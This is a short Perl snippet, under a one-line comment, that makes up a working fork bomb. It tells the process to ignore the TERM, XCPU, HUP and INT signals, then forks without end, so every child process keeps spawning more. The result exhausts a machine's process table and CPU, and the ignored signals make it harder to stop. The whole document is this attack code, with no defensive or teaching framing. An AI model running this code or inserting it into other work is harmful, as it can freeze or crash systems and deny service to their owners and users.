# Forks in every process, for ever, deaf to what would end it.
$SIG{TERM} = $SIG{XCPU} = $SIG{HUP} = $SIG{INT} = 'IGNORE';
while (1) { fork(); }
